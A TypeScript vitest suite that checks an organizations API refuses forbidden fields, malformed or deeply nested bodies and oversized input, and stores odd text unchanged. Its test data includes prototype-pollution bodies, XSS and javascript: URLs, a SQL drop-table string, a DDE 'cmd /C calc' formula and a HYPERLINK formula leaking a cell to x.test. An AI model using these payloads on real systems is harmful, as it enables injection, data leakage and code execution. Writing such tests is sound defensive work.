import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { sql } from '#server/database/sql.ts';
import { partsOf, WRITABLES } from '#domain/writing/writable.ts';
import { sampleId } from '#tests/support/sampleSector.ts';
import { someOf } from '#tests/support/thorough.ts';
import { serveEditors, type Answered, type EditedSector } from './editors.ts';
import { leastOf, WRITTEN } from './newEntries.ts';

let sector: EditedSector;
let version: number;
beforeAll(async () => {
  sector = await serveEditors();
  ({ version } = (await sector.as('super', 'GET', ACME)).json);
});
afterAll(() => sector.close());

const ACME = `/organizations/${sampleId('o', 1)}/`;
const NEW = { name: 'Massive', entityType: ['company'] };

/** How many rows there are of everything that a write may leave behind. */
async function counted(): Promise<unknown> {
  const tables = [
    ...new Set(WRITABLES.map(({ table }) => table)),
    'fact',
    'source',
    'change_set',
    'change',
    'row_history',
  ];
  return sector.database.query(
    sql.join(
      tables.map((table) => sql`select ${table}::text as name, count(*)::int as rows from ${sql.id(table)}`),
      ' union all ',
    ),
  );
}

const deep = (depth: number, name: string, inmost: string): string =>
  `{"${name}":`.repeat(depth) + inmost + '}'.repeat(depth);
const body = (more: object): string => JSON.stringify({ ...NEW, ...more });
const withRaw = (text: string): string => `${JSON.stringify(NEW).slice(0, -1)},${text}}`;

/** What is sent, and under which name it is refused. */
type Case = readonly [what: string, sent: string, named: RegExp];

// What belongs to the engine, in every spelling and at every place where values are taken.
const ENGINE_FIELDS = [
  'status',
  'version',
  'id',
  'created_by',
  'createdBy',
  'owner',
  'recordedFrom',
  'recorded_from',
];
const MORE_FIELDS = [
  'recorded_to',
  'updatedAt',
  'updated_at',
  'slug',
  'name_key',
  'nameKey',
  'completeness',
  'total_raised_usd',
];
const DERIVED = [
  'totalRaisedUsd',
  'roundCount',
  'created_at',
  'visible',
  'change_set_id',
  'entity_types',
  'row',
];

const PLACES: readonly (readonly [string, (name: string) => object])[] = [
  ['itself', (name) => ({ [name]: 1 })],
  ['a nested entry', (name) => ({ fundingRounds: { create: [{ node: { name: 'R', [name]: 1 } }] } })],
  [
    'a link',
    (name) => ({
      partners: { connect: [{ where: { node: { id: sampleId('o', 20) } }, edge: { [name]: 1 } }] },
    }),
  ],
];

const FIELDS: readonly Case[] = [...ENGINE_FIELDS, ...MORE_FIELDS, ...DERIVED].flatMap((name) =>
  PLACES.map(([place, at]): Case => [`${name} in ${place}`, body(at(name)), new RegExp(`(^|\\.)${name}$`)]),
);

// What stands beside a link, a new entry or its values is refused as well, never passed over: a misspelt "edge" would lose what it says.
const ID = sampleId('o', 20);
const BESIDE: readonly Case[] = [
  ['status', { partners: [{ id: ID, status: 'APPROVED' }] }, /^partners\.connect\.0\.status$/],
  ['egde', { partners: { connect: [{ where: { node: { id: ID } }, egde: {} }] } }, /connect\.0\.egde$/],
  ['status in a node', { partners: [{ where: { node: { id: ID, status: 'x' } } }] }, /node\.status$/],
  ['version beside a node', { partners: [{ where: { node: { id: ID }, version: 1 } }] }, /where\.version$/],
  ['status beside a new one', { partners: { create: [{ node: {}, status: 'x' }] } }, /create\.0\.status$/],
  ['owner beside a child', { fundingRounds: { create: [{ node: {}, owner: 'x' }] } }, /create\.0\.owner$/],
  ['status of one link', { partOf: { id: ID, status: 'x' } }, /^partOf\.status$/],
  ['status beside one link', { partOf: { connect: { id: ID }, status: 'x' } }, /^partOf\.status$/],
  ['connect and create', { partOf: { connect: { id: ID }, create: {} } }, /^partOf$/],
  ['a link that is not cut', { partOf: { disconnect: false } }, /^partOf\.disconnect$/],
  ['owner in a list of links', { tags: [{ create: {}, owner: 'x' }] }, /\.0\.owner$/],
].map(([what, more, named]): Case => [`beside: ${what as string}`, body(more as object), named as RegExp]);

const SHAPES: readonly Case[] = [
  ['__proto__', withRaw('"__proto__":{"status":"APPROVED"}'), /body|__proto__/],
  ['constructor', withRaw('"constructor":{"prototype":{"status":"APPROVED"}}'), /body|constructor/],
  ['constructor as a value', body({ constructor: 'x' }), /^constructor$/],
  ['toString', body({ toString: 'x' }), /^toString$/],
  ['hasOwnProperty', body({ hasOwnProperty: 'x' }), /^hasOwnProperty$/],
  ['a list for the body', '[]', /./],
  ['a text for the body', '"name"', /./],
  ['null for the body', 'null', /./],
  ['no JSON', '{"name":', /./],
  ['a list for an object', body({ partners: [[]] }), /^partners/],
  ['an object for a list', body({ aliases: { 0: 'a' } }), /^aliases$/],
  ['an object for a text', body({ city: { toString: 'x' } }), /^city$/],
  ['a list for a text', body({ city: ['x'] }), /^city$/],
  ['evidence as a list', body({ evidence: [] }), /^evidence$/],
  ['evidence of nothing', body({ evidence: { city: { source: 'x' } } }), /^evidence\.city$/],
  [
    'evidence with a status',
    body({ evidence: { name: { status: 'APPROVED' } } }),
    /^evidence\.name\.status$/,
  ],
  ['a source by an object', body({ sources: [{ key: { toString: 1 }, url: 'x' }] }), /^sources/],
  [
    'evidence by an object',
    body({ evidence: { name: { source: { toString: 1 } } } }),
    /^evidence\.name\.source$/,
  ],
  ['a source with a licence', body({ sources: [{ url: 'https://a.example/', licence: 'CC0' }] }), /licence$/],
  ['too many sources', body({ sources: Array.from({ length: 51 }, () => ({ title: 'x' })) }), /^sources$/],
  ['a huge list', body({ aliases: Array.from({ length: 201 }, (_one, index) => `A${index}`) }), /^aliases$/],
  ['a list of lists', body({ aliases: [['a']] }), /^aliases$/],
  ['NUL in a name', body({ name: 'a\0b' }), /^name$/],
  ['NUL in a note', body({ note: 'a\0b' }), /^note$/],
  ['NUL in a name of a link', body({ partOf: { name: 'a\0b' } }), /^partOf/],
  ['half a letter', withRaw(String.raw`"city":"\ud800"`), /^city$/],
  ['half a letter in a note', withRaw(String.raw`"note":"\ud800"`), /^note$/],
  ['half a letter in a quote', withRaw(String.raw`"evidence":{"name":{"quote":"\udfff"}}`), /quote$/],
  ['a name of a thousand rare letters', body({ name: rareLetters(1000) }), /^name$/],
  ['a script as an address', body({ website: 'javascript:alert(1)' }), /^website$/],
  ['a password in an address', body({ website: 'https://me:pass@a.example/' }), /^website$/],
  ['deep links', withRaw(`"partOf":${deep(20_000, 'where', '1')}`), /^partOf/],
  ['deep nodes', withRaw(`"partOf":${deep(20_000, 'create', '{}')}`), /^partOf/],
  ['deep lists', withRaw(`"aliases":${'['.repeat(50_000)}${']'.repeat(50_000)}`), /^aliases$/],
  ['endless entries in entries', withRaw(`"parts":${deep(300, 'create', '[]')}`), /^parts/],
  ['a link to itself', body({ partners: { connect: [{ id: sampleId('o', 999) }] } }), /^partners/],
  ['the same link twice', body({ partners: [sampleId('o', 20), sampleId('o', 20)] }), /^$/],
  ['a step that is none', body({ partners: { delete: [] } }), /^partners\.delete$/],
  ['approval by who may not', body({ approve: true }), /^$/],
  ['force as a text', body({ force: 'yes' }), /^force$/],
  ['a version of a new entry', body({ version: 1 }), /^version$/],
];

/** A thousand letters of three bytes in which nothing repeats, so that they cannot be pressed together. */
function rareLetters(count: number): string {
  return Array.from({ length: count }, (_one, index) =>
    String.fromCodePoint(0x4e00 + ((index * 7919) % 20_000)),
  ).join('');
}

const namesIn = ({ json }: Answered): string[] => Object.keys(json.errors ?? {});

describe('what nobody may send is refused by its name, and leaves nothing behind', () => {
  test.each([
    ['fields', FIELDS],
    ['what stands beside', BESIDE],
    ['shapes', SHAPES],
  ])('%s, of new entries and of those that are there', async (_what, cases) => {
    const before = await counted();
    const wrong: unknown[] = [];
    for (const [what, sent, named] of cases) {
      const made = await sector.as('author', 'POST', '/organizations/', { raw: sent });
      const edited = await sector.as('super', 'PATCH', ACME, {
        raw: sent,
        headers: { 'if-match': String(version) },
      });
      const isRefused = made.status >= 400 && made.status < 500;
      const isNamed =
        namesIn(made).length === 0 ? made.status !== 422 : namesIn(made).some((name) => named.test(name));
      const isTold = Object.values(made.json.errors ?? {})
        .flat()
        .every((one) => typeof one === 'string');
      if (!isRefused || !isNamed || !isTold) wrong.push([what, made.status, made.text.slice(0, 300)]);
      if (edited.status >= 500) wrong.push([`PATCH ${what}`, edited.status]);
    }
    expect(wrong).toEqual([]);
    const isLeft = (await counted()) as { name: string; rows: number }[];
    const edits = new Set(['change_set', 'change', 'row_history', 'fact', 'partnership']);
    const kept = (rows: unknown) => (rows as { name: string }[]).filter(({ name }) => !edits.has(name));
    expect(kept(isLeft)).toEqual(kept(before));
    expect(FIELDS.length + SHAPES.length).toBeGreaterThan(100);
  });

  test('a megabyte is refused before it is read', async () => {
    const { status } = await sector.as('author', 'POST', '/organizations/', {
      body: { ...NEW, name: 'a'.repeat(1e6) },
    });
    expect(status).toBe(413);
  });

  // Everything that a kind has, sent as what it is not.
  test.each([
    ['an object', { a: 1 }],
    ['a list of objects', [{ a: [] }]],
    ['a list of nothing', [null]],
    ['a number beyond all', 1e300],
    ['a date beyond all', '99999-99-99'],
    ['a number with a tail', '1e999999999'],
    ['NUL', '\0'],
    ['half a letter', '\ud800'],
    ['a formula', '=1+1'],
    ['yes', true],
  ])(
    '%s for every value of every kind is refused with the name of the value, or taken',
    async (_what, value) => {
      const wrong: unknown[] = [];
      for (const { kind, path } of WRITTEN) {
        const names = [...partsOf(kind).keys()];
        const sent = Object.fromEntries(names.map((name) => [name, value]));
        const answer = await sector.as('super', 'POST', `${path.path}?dryRun=1`, { body: sent });
        const isNamed = namesIn(answer).every((name) => names.includes(name.split('.')[0]!));
        const isTaken = answer.status === 200;
        if (!isTaken && (answer.status !== 422 || !isNamed || namesIn(answer).length === 0)) {
          wrong.push([path.path, answer.status, answer.text.slice(0, 200)]);
        }
        for (const name of someOf(names, 12)) {
          const one = { ...leastOf(kind, 'Alone', path.only), [name]: value };
          const { status, text } = await sector.as('super', 'POST', `${path.path}?dryRun=1`, { body: one });
          if (status >= 500) wrong.push([path.path, name, status, text.slice(0, 200)]);
        }
      }
      expect(wrong).toEqual([]);
    },
  );

  test('an entry that says too little is told what it lacks, of every kind', async () => {
    for (const { kind, path } of WRITTEN) {
      const least = leastOf(kind, 'Least', path.only);
      for (const name of Object.keys(least)) {
        const rest = Object.fromEntries(Object.entries(least).filter(([one]) => one !== name));
        const { status, text } = await sector.as('super', 'POST', `${path.path}?dryRun=1`, { body: rest });
        // Entries of a path that is of one type have that type.
        const isGiven = path.only?.field === name;
        expect([path.path, name, status, text]).toEqual([path.path, name, isGiven ? 200 : 422, text]);
      }
    }
  });
});

test.each([
  ['a script', '<script>alert("x")</script>'],
  ['a formula', '=HYPERLINK("http://x.test/?"&A1,"Click")'],
  ['another formula', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['turned letters', '\u202Egnp.exe\u202C \u2066x\u2069'],
  ['invisible letters', 'A\u200B\u00ADb\uFEFF'],
  ['many scripts', 'Zürich 量子 🚀 Ωmega שלום नमस्ते 👩🏽‍🔬'],
  ['composed and not', 'é é Å Å'],
  ['quotes and slashes', `a'b"c\\d;--%_{}$1 \${x}`],
  ['lines and tabs', 'a\r\n\tb\u2028c'],
  ['five hundred rockets', '🚀'.repeat(500)],
  ['its own query', "'); drop table organization; --"],
])('%s comes back as it was sent', async (_what, name) => {
  const sent = { name, entityType: ['company'], description: name, aliases: [name], force: true, note: name };
  const { status, json } = await sector.as('author', 'POST', '/organizations/', { body: sent });
  expect([status, json.name, json.description, json.aliases]).toEqual([201, name, name, [name]]);
  const set = (await sector.as('author', 'GET', `/change-sets/${json.changeSet.id}/`)).json;
  expect(set.note).toBe(name);
  expect(set.changes.find(({ field }) => field === 'description')?.value).toBe(name);
});
